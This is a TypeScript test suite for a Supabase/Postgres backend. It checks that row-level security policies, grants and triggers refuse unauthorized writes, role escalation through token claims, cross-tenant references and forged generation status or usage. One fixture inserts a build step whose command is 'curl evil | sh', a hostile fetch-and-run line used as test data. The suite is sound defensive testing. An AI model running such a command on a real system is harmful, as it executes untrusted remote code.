    expect(updated).toEqual([{ monthly_token_limit: 50000, archived: true }]);
    expect(
      await serviceRows(db, sql`select monthly_token_limit::int as monthly_token_limit, archived_at is not null as archived from projects where id = ${t.projectId}`),
    ).toEqual([{ monthly_token_limit: 50000, archived: true }]);
  });
});

describe('creating a project', () => {
  it('is allowed only in one\'s own name', async () => {
    const t = await createTeam(db);
    const mine = randomUUID();
    const theirs = randomUUID();
    const attempts = await as(db, t.stranger).run(async (tx) => ({
      forSomeoneElse: await attempt(
        tx,
        sql`insert into projects (id, owner_id, name, target) values (${theirs}, ${t.owner}, 'framed', 'WEB') returning id`,
      ),
      forMyself: await attempt(
        tx,
        sql`insert into projects (id, owner_id, name, target) values (${mine}, ${t.stranger}, 'mine', 'WEB') returning id`,
      ),
      ownerMembership: verdict(
        await attempt(tx, sql`insert into project_members (project_id, user_id, role) values (${mine}, ${t.stranger}, 'owner') returning role`),
      ),
    }));
    expect(attempts).toEqual({ forSomeoneElse: refusedByPolicy, forMyself: { ok: true, rows: [{ id: mine }] }, ownerMembership: 'accepted (1 rows)' });
    expect(await serviceRows(db, sql`select owner_id from projects where id in (${mine}, ${theirs})`)).toEqual([{ owner_id: t.stranger }]);
    // The new project is the creator's alone.
    expect(await as(db, t.owner).run((tx) => rows(tx, sql`select id from projects where id = ${mine}`))).toEqual([]);
  });
});

describe("a user's own token outside Kiln (as Supabase's Data API runs it)", () => {
  /** The request's role and claims, as PostgREST sets them, without the setting of Kiln's request scope. */
  const dataApi = (userId: string) => ({
    run: <T>(work: (tx: Tx) => Promise<T>) =>
      db.transaction(async (tx) => {
        await tx.execute(sql`select set_config('request.jwt.claims', ${JSON.stringify(claimsFor(userId))}, true), set_config('role', 'authenticated', true)`);
        return work(tx);
      }),
  });

  it('reads what the owner may read, and writes nothing the use-cases check: no start, cancel, archive, message, member or secret', async () => {
    const t = await createTeam(db);
    const queued = await createGeneration(db, t, 'QUEUED');
    const attempts = await dataApi(t.owner).run(async (tx) => ({
      readProject: visibleRows(await attempt(tx, sql`select id from projects where id = ${t.projectId}`)),
      createProject: verdict(await attempt(tx, sql`insert into projects (owner_id, name, target) values (${t.owner}, 'around Kiln', 'WEB') returning id`)),
      archiveProject: verdict(await attempt(tx, sql`update projects set archived_at = now() where id = ${t.projectId} returning id`)),
      setSecret: verdict(
        await attempt(tx, sql`insert into project_secrets (project_id, name, ciphertext) values (${t.projectId}, 'GEMINI_API_KEY', 'x')`),
      ),
      ...(await memberWrites(tx, t, t.owner, queued)),
    }));
    expect(attempts).toEqual({
      readProject: 1,
      createProject: 'refused 42501',
      archiveProject: changesNothing,
      setSecret: 'refused 42501',
      ...memberWritesRefused,
    });
    await expectUnchanged(t, queued);
    expect(await serviceRows(db, sql`select archived_at from projects where id = ${t.projectId}`)).toEqual([{ archived_at: null }]);
  });
});

describe('what only the worker writes', () => {
  const workerTables = {
    generation_chunks: (g: string) => sql`insert into generation_chunks (generation_id, seq, text) values (${g}, 99, 'injected')`,
    build_steps: (g: string) => sql`insert into build_steps (generation_id, ordinal, name, command) values (${g}, 99, 'evil', 'curl evil | sh')`,
    build_log_lines: (g: string) =>
      sql`insert into build_log_lines (generation_id, seq, step, stream, text) values (${g}, 99, 'install', 'STDERR', 'injected')`,
    generation_files: (g: string) =>
      sql`insert into generation_files (generation_id, path, content, size, sha256) values (${g}, 'evil.js', 'x', 1, 'x')`,
  };

  it('cannot be inserted, changed or deleted by any signed-in user, the owner included', async () => {
    const t = await createTeam(db);
    const everyone = { owner: t.owner, editor: t.editor, viewer: t.viewer, stranger: t.stranger };
    for (const [who, user] of Object.entries(everyone)) {
      const attempts = await as(db, user).run(async (tx) => {
        const result: Record<string, string> = {};
        for (const [table, insert] of Object.entries(workerTables)) {
          result[`insert ${table}`] = verdict(await attempt(tx, insert(t.generationId)));
          result[`update ${table}`] = verdict(
            await attempt(tx, sql`update ${sql.identifier(table)} set generation_id = generation_id returning generation_id`),
          );
          result[`delete ${table}`] = verdict(await attempt(tx, sql`delete from ${sql.identifier(table)} returning generation_id`));
        }
        return result;
      });
      for (const [what, outcome] of Object.entries(attempts)) {
        if (what.startsWith('insert')) expect(outcome, `${what} by ${who}`).toBe('refused 42501');
        else expect(outcome, `${what} by ${who}`).toEqual(changesNothing);
      }
    }
    expect(
      await serviceRows(
        db,
        sql`select (select count(*)::int from generation_chunks where generation_id = ${t.generationId}) as chunks,
                   (select count(*)::int from build_steps where generation_id = ${t.generationId}) as steps,
                   (select count(*)::int from build_log_lines where generation_id = ${t.generationId}) as lines,
                   (select count(*)::int from generation_files where generation_id = ${t.generationId}) as files`,
      ),
    ).toEqual([{ chunks: 2, steps: 1, lines: 1, files: 1 }]);
  });
});

describe('finding a user by email (kiln.member_candidate_id)', () => {
  it('answers only an owner of the project, only while it is not archived; any other signed-in user learns nothing of who has an account', async () => {
    const t = await createTeam(db);
    const email = (await serviceRows(db, sql`select email from users where id = ${t.stranger}`))[0]!.email as string;
    const lookUp = (userId: string) => as(db, userId).run((tx) => rows(tx, sql`select kiln.member_candidate_id(${t.projectId}, ${email.toUpperCase()}) as id`));
    expect(await lookUp(t.owner)).toEqual([{ id: t.stranger }]);
    for (const other of [t.editor, t.viewer, t.stranger]) expect(await lookUp(other)).toEqual([{ id: null }]);
    // The lookup of any address by any signed-in user is gone.
    expect(await as(db, t.stranger).run((tx) => attempt(tx, sql`select kiln.user_id_by_email(${email})`)).then(verdict)).toBe('refused 42883');
    await as(db, t.owner).run((tx) => rows(tx, sql`update projects set archived_at = now() where id = ${t.projectId} returning id`));
    expect(await lookUp(t.owner)).toEqual([{ id: null }]);
  });
});

describe('an archived project', () => {
  it('is never changed by a request, not even by its owner: not brought back, renamed or given a budget', async () => {
    const t = await createTeam(db);
    await as(db, t.owner).run((tx) => rows(tx, sql`update projects set archived_at = now() where id = ${t.projectId} returning id`));
    const writes = await as(db, t.owner).run(async (tx) => ({
      unarchive: verdict(await attempt(tx, sql`update projects set archived_at = null where id = ${t.projectId} returning id`)),
      rename: verdict(await attempt(tx, sql`update projects set name = 'Back again' where id = ${t.projectId} returning id`)),
      budget: verdict(await attempt(tx, sql`update projects set monthly_token_limit = 5 where id = ${t.projectId} returning id`)),
    }));
    expect(writes).toEqual({ unarchive: 'refused 42501', rename: 'refused 42501', budget: 'refused 42501' });
    expect(await serviceRows(db, sql`select archived_at is not null as archived, monthly_token_limit from projects where id = ${t.projectId}`)).toEqual([
      { archived: true, monthly_token_limit: null },
    ]);
  });
});

describe('generation status', () => {
  it('can be changed by a request only to CANCELLED, by the owner as by an editor', async () => {
    const t = await createTeam(db);
    for (const user of [t.owner, t.editor]) {
      for (const from of ['QUEUED', 'RUNNING'] as const) {
        const id = await createGeneration(db, t, from);
        const attempts = await as(db, user).run(async (tx) => {
          const result: Record<string, string> = {};
          for (const to of generationStatuses.filter((s) => s !== from && s !== 'CANCELLED')) {
            result[to] = verdict(await attempt(tx, sql`update generations set status = ${to} where id = ${id} returning id`));
          }
          return result;
        });
        for (const [to, outcome] of Object.entries(attempts)) {
          expect(outcome, `${from} -> ${to}`).toMatch(/^refused (42501|23514)$/);
        }
        expect(await statusOf(db, id)).toBe(from);

        const cancelled = await as(db, user).run((tx) =>
          rows(tx, sql`update generations set status = 'CANCELLED', finished_at = now() where id = ${id} returning status`),
        );
        expect(cancelled).toEqual([{ status: 'CANCELLED' }]);
      }
    }
  });

  it('is written by a request only as a cancel: no cancel withdrawn, no phase or finish time faked, and a cancel ends the row as a cancel does', async () => {
    const t = await createTeam(db);
    const running = await createGeneration(db, t, 'RUNNING');
    const row = async () =>
      (await serviceRows<{ status: string; phase: string; cancelAsked: boolean; finished: boolean }>(
        db,
        sql`select status, phase, cancel_requested_at is not null as "cancelAsked", finished_at is not null as finished from generations where id = ${running}`,
      ))[0];
    // The owner asks a running generation to stop; an editor asking again is allowed too.
    await as(db, t.owner).run((tx) => rows(tx, sql`update generations set cancel_requested_at = now() where id = ${running} returning id`));
    expect(verdict(await as(db, t.editor).run((tx) => attempt(tx, sql`update generations set cancel_requested_at = now() where id = ${running} returning id`)))).toBe(
      'accepted (1 rows)',
    );
    const withdraw = await as(db, t.editor).run((tx) => attempt(tx, sql`update generations set cancel_requested_at = null where id = ${running} returning id`));
    const fakeEnd = await as(db, t.editor).run((tx) =>
      attempt(tx, sql`update generations set phase = 'DONE', finished_at = '2000-01-01' where id = ${running} returning id`),
    );
    expect([verdict(withdraw), verdict(fakeEnd)]).toEqual(['refused 42501', 'refused 42501']);
    expect(await row()).toEqual({ status: 'RUNNING', phase: 'GENERATING', cancelAsked: true, finished: false });

    // A cancel written with the status alone still ends the row whole.
    const other = await createGeneration(db, t, 'RUNNING');
    await as(db, t.editor).run((tx) => rows(tx, sql`update generations set status = 'CANCELLED' where id = ${other} returning id`));
    expect(
      await serviceRows(db, sql`select status, phase, cancel_requested_at is not null as "cancelAsked", finished_at is not null as finished from generations where id = ${other}`),
    ).toEqual([{ status: 'CANCELLED', phase: 'DONE', cancelAsked: true, finished: true }]);
  });

  it('is created by a request only now, with nothing spent: a back-dated or pre-spent row cannot slip past the month’s budget', async () => {
    const t = await createTeam(db);
    const insert = (columns: SQL) =>
      as(db, t.editor).run((tx) =>
        attempt<{ thisMonth: boolean }>(
          tx,
          sql`insert into generations (project_id, created_by, session_id, prompt, provider, model, created_at, spent_input_tokens)
              values (${t.projectId}, ${t.editor}, gen_random_uuid(), 'x', 'offline', 'offline', ${columns})
              returning created_at >= date_trunc('month', now()) as "thisMonth"`,
        ),
      );
    expect(verdict(await insert(sql`now(), 1000000`))).toBe('refused 42501');
    // Stamped now, whatever it says.
    expect(await insert(sql`date_trunc('month', now()) - interval '1 day', 0`)).toEqual({ ok: true, rows: [{ thisMonth: true }] });
  });

  it('never changes once terminal, not even through the service scope', async () => {
    const t = await createTeam(db);
    for (const terminal of ['SUCCEEDED', 'FAILED', 'CANCELLED'] as const) {
      const id = await createGeneration(db, t, terminal);
      const attempts = await db.transaction(async (tx) => {
        const result: Record<string, string> = {};
        for (const to of generationStatuses.filter((s) => s !== terminal)) {
          result[to] = verdict(await attempt(tx, sql`update generations set status = ${to} where id = ${id} returning id`));
        }
        return result;
      });
      expect(Object.values(attempts), `${terminal}: ${JSON.stringify(attempts)}`).toEqual(
        generationStatuses.filter((s) => s !== terminal).map(() => 'refused 23514'),
      );
      // Nor can a member cancel it.
      const cancel = await as(db, t.owner).run((tx) => attempt(tx, sql`update generations set status = 'CANCELLED' where id = ${id} and status <> 'CANCELLED' returning id`));
      expect(verdict(cancel)).toMatch(terminal === 'CANCELLED' ? /^accepted \(0 rows\)$/ : /^refused 23514$/);
      expect(await statusOf(db, id)).toBe(terminal);
    }
  });

  it('moves forward through the worker: QUEUED, RUNNING, SUCCEEDED', async () => {
    const t = await createTeam(db);
    const id = await createGeneration(db, t, 'QUEUED');
    const path = await db.transaction(async (tx) => [
      ...(await rows(tx, sql`update generations set status = 'RUNNING', phase = 'GENERATING', started_at = now() where id = ${id} returning status`)),
      ...(await rows(tx, sql`update generations set status = 'SUCCEEDED', phase = 'DONE', finished_at = now() where id = ${id} returning status`)),
    ]);
    expect(path).toEqual([{ status: 'RUNNING' }, { status: 'SUCCEEDED' }]);
  });
});

describe('claims', () => {
  it("cannot raise the database role: role 'service_role' in the claims still runs as authenticated", async () => {
    const t = await createTeam(db);
    for (const role of ['service_role', 'postgres', 'anon']) {
      const claims = { ...claimsFor(t.stranger), role } as unknown as Claims;
      const seen = await userScope(db, claims).run(async (tx) => ({
        currentUser: (await rows<{ current_user: string }>(tx, sql`select current_user`))[0]?.current_user,
        projects: visibleRows(await attempt(tx, sql`select id from projects where id = ${t.projectId}`)),
        generationFiles: visibleRows(await attempt(tx, sql`select path from generation_files where generation_id = ${t.generationId}`)),
        serverSecrets: visibleRows(await attempt(tx, sql`select value from server_secrets`)),
        rename: verdict(await attempt(tx, sql`update projects set name = 'escalated' where id = ${t.projectId} returning id`)),
      }));
      expect(seen, role).toEqual({
        currentUser: 'authenticated',
        projects: 0,
        generationFiles: 0,
        serverSecrets: seen.serverSecrets,
        rename: changesNothing,
      });
      expect(seesNothing(seen.serverSecrets), role).toBe(true);
    }
    expect(await serviceRows(db, sql`select name from projects where id = ${t.projectId}`)).toEqual([{ name: t.projectName }]);
  });

  it('without a token (role authenticated, no claims) sees nothing and can create nothing', async () => {
    const t = await createTeam(db);
    const seen = await db.transaction(async (tx) => {
      await tx.execute(sql`set local role authenticated`);
      const result: Record<string, number | 'denied' | string> = {};
      result.uid = String((await rows<{ uid: string | null }>(tx, sql`select auth.uid() as uid`))[0]?.uid);
      for (const table of publicTables) result[table] = visibleRows(await attempt(tx, sql`select * from ${sql.identifier(table)}`));
      result.createProject = verdict(
        await attempt(tx, sql`insert into projects (owner_id, name, target) values (${t.owner}, 'no token', 'WEB') returning id`),
      );
      result.startGeneration = verdict(
        await attempt(
          tx,
          sql`insert into generations (project_id, created_by, session_id, prompt, provider, model)
              values (${t.projectId}, ${t.owner}, ${t.sessionId}, 'no token', 'offline', 'offline')`,
        ),
      );
      result.cancel = verdict(await attempt(tx, sql`update generations set status = 'CANCELLED' where project_id = ${t.projectId} returning id`));
      return result;
    });
    const { uid, createProject, startGeneration, cancel, ...reads } = seen;
    expect({ uid, createProject, startGeneration, cancel }).toEqual({
      uid: 'null',
      createProject: 'refused 42501',
      startGeneration: 'refused 42501',
      cancel: changesNothing,
    });
    expect(Object.entries(reads).filter(([, n]) => !seesNothing(n as number | 'denied'))).toEqual([]);
  });

  it('and the role do not outlive the request transaction', async () => {
    const t = await createTeam(db);
    for (let i = 0; i < 3; i++) {
      expect(await as(db, t.stranger).run((tx) => rows(tx, sql`select current_user as who`))).toEqual([{ who: 'authenticated' }]);
      const after = await serviceRows<{ who: string; claims: string | null; projects: number }>(
        db,
        sql`select current_user as who, nullif(current_setting('request.jwt.claims', true), '') as claims,
                   (select count(*)::int from projects where id = ${t.projectId}) as projects`,
      );
      expect(after).toEqual([{ who: expect.not.stringMatching(/^(authenticated|anon)$/), claims: null, projects: 1 }]);
    }
  });
});

// Holes found while writing this suite: each test states the secure behaviour and
// fails until the policies, grants or triggers enforce it.
describe('a write the policies refuse, out of a user scope', () => {
  // A use-case checks the role when it reads, and the role can change before it writes:
  // the policy's refusal is then an answer (ForbiddenError), not an unexpected error.
  it('is a ForbiddenError, and nothing is written', async () => {
    const t = await createTeam(db);
    const write = as(db, t.viewer).run((tx) => tx.execute(sql`insert into project_members (project_id, user_id, role) values (${t.projectId}, ${t.stranger}, 'viewer')`));
    await expect(write).rejects.toBeInstanceOf(ForbiddenError);
    expect(await serviceRows(db, sql`select 1 from project_members where project_id = ${t.projectId} and user_id = ${t.stranger}`)).toEqual([]);
  });

  it('but a missing privilege (a bug, not a refusal) stays the database error, to be masked and logged', async () => {
    const t = await createTeam(db);
    const write = as(db, t.owner).run((tx) => tx.execute(sql`truncate projects`));
    const error = await write.then(
      () => undefined,
      (failure: unknown) => failure,
    );
    expect(error).not.toBeInstanceOf(ForbiddenError);
    expect(sqlStateOf(error)).toEqual({ code: SqlState.insufficientPrivilege, message: expect.stringMatching(/^permission denied/) });
    expect(await serviceRows(db, sql`select name from projects where id = ${t.projectId}`)).toEqual([{ name: t.projectName }]);
  });
});

describe('cross-project references and forged generation state', () => {
  it("refuses a generation or message that points at a generation of a project its author cannot read", async () => {
    const victim = await createTeam(db);
    const attacker = await createTeam(db);
    // The attacker owns a project of its own and knows (say, from a former membership) a generation id of the victim.
    const attempts = await as(db, attacker.owner).run(async (tx) => ({
      childOfForeignGeneration: verdict(
        await attempt(
          tx,
          sql`insert into generations (project_id, created_by, session_id, prompt, provider, model, parent_id)
              values (${attacker.projectId}, ${attacker.owner}, ${attacker.sessionId}, 'continue', 'offline', 'offline', ${victim.generationId})
              returning id`,
        ),
      ),
      retryOfForeignGeneration: verdict(
        await attempt(
          tx,
          sql`insert into generations (project_id, created_by, session_id, prompt, provider, model, retry_of)
              values (${attacker.projectId}, ${attacker.owner}, ${attacker.sessionId}, 'again', 'offline', 'offline', ${victim.generationId})
              returning id`,
        ),
      ),
      messageAboutForeignGeneration: verdict(
        await attempt(
          tx,
          sql`insert into conversation_messages (project_id, session_id, role, content, generation_id)
              values (${attacker.projectId}, ${attacker.sessionId}, 'USER', 'hi', ${victim.generationId}) returning id`,
        ),
      ),
    }));
    // The worker (service scope, no RLS) builds a child from its parent's files: a
    // foreign parent would copy another tenant's code into the attacker's project.
    expect(attempts).toEqual({
      childOfForeignGeneration: expect.stringMatching(/^refused/),
      retryOfForeignGeneration: expect.stringMatching(/^refused/),
      messageAboutForeignGeneration: expect.stringMatching(/^refused/),
    });
  });

  it('lets a request create only a QUEUED generation with no usage recorded', async () => {
    const t = await createTeam(db);
    const forge = (tx: Tx, forged: ReturnType<typeof sql>) =>
      attempt(
        tx,
        sql`insert into generations (project_id, created_by, session_id, prompt, provider, model, status, phase, lease_expires_at, input_tokens, output_tokens)
            select ${t.projectId}, ${t.editor}, ${t.sessionId}, 'forged', 'offline', 'offline', f.*
              from (${forged}) as f
            returning id`,
      );
    const attempts = await as(db, t.editor).run(async (tx) => ({
      bornSucceeded: verdict(
        await forge(tx, sql`select 'SUCCEEDED'::generation_status, 'DONE'::generation_phase, null::timestamptz, 0, 0`),
      ),
      bornRunningForever: verdict(
        await forge(tx, sql`select 'RUNNING'::generation_status, 'GENERATING'::generation_phase, now() + interval '100 years', 0, 0`),
      ),
      negativeUsage: verdict(
        await forge(tx, sql`select 'QUEUED'::generation_status, 'QUEUED'::generation_phase, null::timestamptz, -1000000000, -1000000000`),
      ),
    }));
    // A terminal or running row skips the queue and the status trigger (it guards
    // UPDATE only); negative tokens cancel out the spend the owner's budget counts.
    expect(attempts).toEqual({
      bornSucceeded: expect.stringMatching(/^refused/),
      bornRunningForever: expect.stringMatching(/^refused/),
      negativeUsage: expect.stringMatching(/^refused/),
    });
  });
});
